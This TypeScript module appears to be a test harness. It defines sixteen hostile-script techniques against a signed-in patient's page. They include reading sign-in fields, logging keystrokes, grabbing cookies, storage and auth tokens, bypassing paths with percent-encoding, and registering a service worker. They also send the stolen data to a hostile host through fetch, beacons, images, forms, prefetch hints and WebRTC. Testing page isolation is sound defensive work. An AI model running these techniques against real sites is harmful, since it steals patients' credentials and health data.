/**
 * Sixteen techniques by which a hostile third-party script, in a public page of a signed-in patient, reads foreign
 * data or sends it away. Each runs in the page with all rights of the page, and reports everything that it got.
 */

/** What a technique needs from outside the page. */
export interface TechniqueHelp {
  /** Origin of the hostile host. */
  origin: string;
  port: number;
}

/** Shared code of the techniques, in the page. */
const common = `
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const tried = async (work) => { try { return String(await work()); } catch (error) { return 'refused: ' + error.name; } };
  const all = async (...works) => (await Promise.all(works.map(tried))).join(' | ');
  const page = async (path, init) => (await fetch(path, init)).text();
  const fieldsOf = (from) => [...(from?.document.querySelectorAll('input') ?? [])].map(({ value }) => value).join(' ');
`;
/** A function for the page, by its source, because it is sent there as text. */
const technique =
  (source: string) =>
  ({ origin, port }: TechniqueHelp) =>
    `(async () => { ${common} const [origin, port] = [${JSON.stringify(origin)}, ${port}]; ${source} })()`;

/** By name: the source that the page runs. */
export const techniques: Readonly<Record<string, (help: TechniqueHelp) => string>> = {
  'the fields of a sign-in page that it opened': technique(`
    window.held ??= window.open('/login', 'sign-in');
    await wait(6000);
    return all(() => fieldsOf(window.held), () => fieldsOf(window.open('', 'sign-in')), () => window.held.location.href);`),
  'the keys typed into a page that it opened or that opened it': technique(`
    const keys = [];
    const listen = (to) => to.document.addEventListener('keydown', ({ key }) => keys.push(key), true);
    const heardBack = await all(() => listen(window.held), () => listen(window.opener), () => listen(window.open('', 'sign-in')));
    await wait(5000);
    return heardBack + keys.join('');`),
  'a private page as document, as data, by script and by style': technique(`
    return all(
      () => page('/profile'), () => page('/profile.data'), () => page('/PROFILE.data'), () => page('/ms/profile.data'),
      () => page('/profile', { mode: 'no-cors' }), () => import('/profile'),
      async () => { const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/profile' });
        document.head.append(link); await wait(1000); return [...(link.sheet?.cssRules ?? [])].map((rule) => rule.cssText).join(''); });`),
  'a private page by a percent-encoded path': technique(`
    return all(
      () => page('/%70rofile'), () => page('/%70rofile.data'), () => page('/profile/_.data'), () => page('/profile/.data'), () => page('//profile.data'),
      () => page('/ms/%70rofile.data'), () => page('/profile%2Edata'),
      () => page('/profile/addres%73', { method: 'POST', body: new URLSearchParams({ label: 'Home' }) }),
      async () => { const opened = window.open('/%70rofile', 'encoded'); await wait(3000); return opened.document.body.innerText; });`),
  'auth/token and other calls on the cookie alone': technique(`
    const key = document.querySelector('meta[name="api-key"]')?.content ?? '';
    const marker = localStorage.getItem('token') ?? '';
    const call = (path, headers, body) => page('/api/' + path, { method: body ? 'POST' : 'GET', headers: { 'x-api-key': key, 'content-type': 'application/json', ...headers }, ...(body ? { body: JSON.stringify(body) } : {}) });
    return all(
      () => call('auth/token', {}, { action: 'get_token' }),
      () => call('auth/token', { 'x-zone-token': 'z2.made-up' }, { action: 'get_token' }),
      () => call('profile/account', {}), () => call('profile/account', { authorization: 'Bearer ' + marker }),
      () => call('profile/account', { authorization: 'Bearer ' + marker, 'x-zone-token': 'z1.made-up' }),
      () => call('profile/member', { authorization: 'Bearer ' + marker }), () => call('profile/appointment', { authorization: 'Bearer ' + marker }),
      () => call('%70rofile/account', { authorization: 'Bearer ' + marker }));`),
  cookies: technique(`
    return all(() => document.cookie, async () => JSON.stringify(await cookieStore.getAll()));`),
  'storage of the site': technique(`
    return all(() => JSON.stringify({ ...localStorage }), () => JSON.stringify({ ...sessionStorage }),
      async () => (await indexedDB.databases()).map(({ name }) => name).join(),
      async () => { let heardBack = ''; for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) heardBack += request.url; return heardBack; },
      () => performance.getEntries().map(({ name }) => name).join());`),
  'a service worker over the whole site': technique(`
    const blob = URL.createObjectURL(new Blob(['self.addEventListener("fetch", () => {})'], { type: 'text/javascript' }));
    return all(() => navigator.serviceWorker.register(blob, { scope: '/' }).then(() => 'REGISTERED'),
      () => navigator.serviceWorker.register('/media/1/x.js', { scope: '/' }).then(() => 'REGISTERED'),
      () => navigator.serviceWorker.register('/api/openapi.json', { scope: '/' }).then(() => 'REGISTERED'),
      () => navigator.serviceWorker.register('/mccn/first-aid/offline.js', { scope: '/' }).then(() => 'REGISTERED'));`),
  'a frame, an object or an embed with a private page': technique(`
    const shown = async (tag, name, path) => { const element = document.createElement(tag); element[name] = path; document.body.append(element); await wait(2500); return element.contentDocument?.body?.innerText ?? 'nothing'; };
    return all(() => shown('iframe', 'src', '/profile'), () => shown('iframe', 'src', '/%70rofile'), () => shown('object', 'data', '/profile'), () => shown('embed', 'src', '/profile'), () => shown('iframe', 'src', '/login'),
      async () => { const opened = window.open('/profile', 'whole'); await wait(3000); return opened.document.body.innerText; });`),
  'messages between windows': technique(`
    const heard = [];
    addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
    const channels = ['visit', 'session', 'sign-in', 'popup'].map((name) => Object.assign(new BroadcastChannel(name), { onmessage: ({ data }) => heard.push(JSON.stringify(data)) }));
    for (const channel of channels) channel.postMessage('who are you');
    const heardBack = await all(() => window.held.postMessage('who are you', '*'), () => window.opener.postMessage('who are you', '*'));
    await wait(2000);
    return heardBack + heard.join();`),
  'a call or a beacon to another host': technique(`
    const loot = window.loot;
    return all(() => fetch(origin + '/fetch', { method: 'POST', body: loot, mode: 'no-cors' }), () => navigator.sendBeacon(origin + '/beacon', loot),
      () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open('POST', origin + '/xhr'); request.onload = resolve; request.onerror = () => reject(new Error('blocked')); request.send(loot); }),
      () => { new WebSocket(origin.replace('http', 'ws') + '/socket'); }, () => { new EventSource(origin + '/events'); }, async () => wait(1500));`),
  'a picture, a style sheet, a font, a script or a film of another host': technique(`
    const add = (tag, properties, to = document.head) => to.append(Object.assign(document.createElement(tag), properties));
    const query = '?' + encodeURIComponent(window.loot.slice(0, 1500));
    new Image().src = origin + '/image' + query;
    add('link', { rel: 'stylesheet', href: origin + '/style' + query });
    add('style', { textContent: 'body { background: url(' + origin + '/css-image) } @font-face { font-family: x; src: url(' + origin + '/font) } main { font-family: x }' });
    document.body.style.backgroundImage = 'url(' + origin + '/inline-style)';
    add('script', { src: origin + '/script' + query });
    add('video', { src: origin + '/film', autoplay: true }, document.body);
    add('link', { rel: 'icon', href: origin + '/icon' });
    add('link', { rel: 'manifest', href: origin + '/manifest' });
    await wait(2500);
    return 'tried';`),
  'a form that is sent to another host': technique(`
    const send = (target, method) => { const form = Object.assign(document.createElement('form'), { action: origin + '/form', method, target });
      form.append(Object.assign(document.createElement('input'), { name: 'loot', value: window.loot.slice(0, 1500) })); document.body.append(form); form.submit(); };
    const result = await all(() => send('_blank', 'post'), () => send('_blank', 'get'), () => send('somewhere', 'post'));
    for (const form of document.forms) form.action = origin + '/own-form';
    await wait(2000);
    return result;`),
  'a base that leads scripts and links to another host': technique(`
    document.head.prepend(Object.assign(document.createElement('base'), { href: origin + '/base/' }));
    const script = Object.assign(document.createElement('script'), { src: 'relative.js' });
    document.head.append(script);
    await wait(1500);
    return document.baseURI.startsWith(origin) ? 'MOVED' : 'stayed';`),
  'hints: dns-prefetch, preconnect, prefetch, preload and speculation rules': technique(`
    const host = origin + '/hint-' + encodeURIComponent(window.loot.slice(0, 500));
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload']) document.head.append(Object.assign(document.createElement('link'), { rel, href: host }));
    for (const as of ['image', 'style', 'script', 'font', 'fetch']) document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as, href: host }));
    const rules = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [host, '/profile', '/login'] }] }) });
    document.head.append(rules);
    await wait(2500);
    return 'tried';`),
  'WebRTC, and leaving for another host': technique(`
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + port, username: window.loot.slice(0, 400), credential: window.loot.slice(0, 400) }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(2500);
    const heardBack = connection.localDescription.sdp;
    connection.close();
    window.open(origin + '/leave?' + encodeURIComponent(window.loot.slice(0, 1500)));
    await wait(1500);
    return heardBack;`),
};
